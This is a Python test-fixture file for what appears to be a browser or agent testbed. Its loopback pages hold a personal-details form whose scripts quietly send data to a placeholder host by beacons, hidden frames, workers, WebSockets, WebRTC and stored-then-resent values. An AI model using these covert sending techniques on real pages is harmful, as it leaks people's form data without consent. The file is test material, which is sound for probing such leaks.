"""Forms on loopback, which are tried: what sends them, now or when they are opened again."""

from testbed.traps.trap import HEAD, TEXT, Origin, Page, Probe, Trap, trap

_FORM = "<form id=f action='@at@/x'><label>Họ tên <input name=a></label><label>Ngày sinh <input name=b></label></form>"
_DB = "const q=indexedDB.open('x',1);q.onupgradeneeded=()=>q.result.createObjectStore('s');q.onsuccess=()=>{const d=q.result;%s}"
_AGAIN = ("submit", "reload")


def _page(script: str, inside: str = "", head: str = "") -> str:
    return (
        f"{HEAD}{head}<body><main><h1>Tờ khai</h1><p>{TEXT}</p>{_FORM}{inside}</main><script>{script}</script></body>"
    )


def _on_submit(send: str) -> str:
    return f"f.onsubmit=e=>{{e.preventDefault();{send}}}"


def _tried(name: str, does: str, text: str, *careless: str, **more: object) -> Trap:
    more.setdefault("origin", Origin.LOOPBACK)
    return trap(name, does, text, probe=Probe.TRIED, careless=careless or None, **more)  # type: ignore[arg-type]


_SENDS = {
    "trybeacon": ("navigator.sendBeacon('@d@','x')", "sends a beacon"),
    "tryform": (
        "HTMLFormElement.prototype.submit.call(Object.assign(f,{action:'@d@'}))",
        "submits another address by script",
    ),
    "tryframe": (
        "const i=document.createElement('iframe');document.body.append(i);const d=i.contentDocument;d.open();"
        "d.write('<form action=\"@d@#x\"><button id=b>x</button></form>');d.close();d.getElementById('b').click()",
        "sends the form of a frame that it writes",
    ),
    "trytimer": ("setTimeout(()=>fetch('@d@'),900)", "asks a while later"),
    "trywindow": ("open('@d@')", "opens a window"),
    "trystream": ("new EventSource('@d@')", "opens an event stream, which tries again by itself"),
    "tryhide": ("addEventListener('pagehide',()=>fetch('@d@',{keepalive:true}))", "asks when the page is left"),
    "trylink": (
        "const l=document.createElement('link');l.rel='stylesheet';l.href='@d@';document.head.append(l)",
        "links a style sheet",
    ),
    "trynavigate": ("navigation.navigate('@d@')", "goes there by the Navigation API"),
    "tryshared": (
        "new SharedWorker(URL.createObjectURL(new Blob([`setInterval(()=>fetch('@d@'),100)`])))",
        "has a shared worker ask again and again",
    ),
    "trycall": (
        "const c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:@udp@'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))",
        "sends a datagram",
    ),
}

TRAPS: tuple[Trap, ...] = (
    _tried(
        "g70",
        "keeps the form in local storage when it is sent, and sends it by GET when it is opened again",
        _page("if(localStorage.o)fetch('@d@?'+localStorage.o);" + _on_submit("localStorage.o='a=1'")),
        *_AGAIN,
    ),
    _tried(
        "g71",
        "the same with a database of the browser's, and a picture",
        _page(
            _DB
            % "d.transaction('s').objectStore('s').get(1).onsuccess=e=>{if(e.target.result)new Image().src='@d@?'+e.target.result};"
            "f.onsubmit=e=>{e.preventDefault();d.transaction('s','readwrite').objectStore('s').put('a=1',1)}"
        ),
        *_AGAIN,
    ),
    _tried(
        "g72",
        "sets a cookie when the form is sent, which goes with the next request",
        _page(_on_submit("document.cookie='o=canhtay1;path=/';new Image().src='@at@/pixel.png'")),
    ),
    _tried(
        "g73",
        "queues a POST for when the page goes",
        _page(_on_submit("fetchLater('@d@',{method:'POST',body:'x'})")),
        "submit",
        "leave",
    ),
    _tried("g74", "queues a GET for two seconds later", _page(_on_submit("fetchLater('@d@',{activateAfter:2000})"))),
    _tried(
        "g75",
        "a worker with a socket tries again for ever",
        _page(
            _on_submit(
                "new Worker(URL.createObjectURL(new Blob([`setInterval(()=>{const s=new WebSocket('@ws@');s.onopen=()=>s.send('nop')},200)`])))"
            )
        ),
    ),
    _tried(
        "g76",
        "two links 'Rút' are loaded in frames with cookies",
        _page("", "<p><a href='@d@/rut/1'>Rút</a> hoặc <a href='@d@/rut/2'>Rút</a></p>"),
        "read a[href*='/d']",
    ),
    _tried(
        "g77",
        "a service worker takes what was sent and sends it once the line is back",
        _page(
            "navigator.serviceWorker.register('@at@/sw.js',{scope:'/'});"
            + _on_submit(
                "navigator.serviceWorker.ready.then(r=>{r.active.postMessage('a=1');return r.sync.register('x')})"
            )
        ),
        more={
            "sw.js": Page(
                text="onsync=onmessage=e=>e.waitUntil(fetch('@d@',{method:'POST',body:'a=1'}))",
                media_type="text/javascript",
            )
        },
    ),
    *(
        _tried(name, f"when the form is sent, {does}", _page(_on_submit(send)), "submit", "leave")
        for name, (send, does) in _SENDS.items()
    ),
    _tried(
        "trycache",
        "keeps the form in the cache of a service worker's kind, and posts it when it is opened again",
        _page(
            "caches.open('o').then(async c=>{const r=await c.match('@at@/o');if(r)navigator.sendBeacon('@d@',await r.text())});"
            + _on_submit("caches.open('o').then(c=>c.put('@at@/o',new Response('a=1')))")
        ),
        *_AGAIN,
    ),
    _tried(
        "trysession",
        "keeps the form in the window's name and session, and sends it by its address when it is opened again",
        _page(
            "if(name)location='@d@?'+name;else if(sessionStorage.o)location='@d@?'+sessionStorage.o;"
            + _on_submit("name=sessionStorage.o='a=1'")
        ),
        *_AGAIN,
    ),
    _tried(
        "tryinvalid",
        "asks by GET when a field is found to be empty",
        _page("for(const e of f.elements){e.required=true;e.oninvalid=()=>fetch('@d@?invalid='+e.name)}"),
    ),
    _tried(
        "tryblur",
        "asks by GET when a field is left empty",
        _page("f.addEventListener('focusout',()=>fetch('@d@?empty'),true)"),
        "tab",
    ),
    _tried(
        "trydata",
        "asks by GET when the browser gathers what the form holds",
        _page("f.action='@d@'"),
    ),
    _tried(
        "tryposts",
        "its form posts, without a handler",
        _page("f.action='@d@';f.method='post'"),
    ),
    _tried(
        "trydialog",
        "a dialog that opens honestly sends its form when it is closed",
        _page(
            "o.onclick=()=>q.showModal();q.onclose=()=>fetch('@d@',{method:'POST'})",
            "<button id=o type=button aria-haspopup=dialog>Xem hướng dẫn</button><dialog id=q><form method=dialog><button id=c>Đóng</button></form></dialog>",
        ),
        "click #o",
        "click #c",
    ),
)
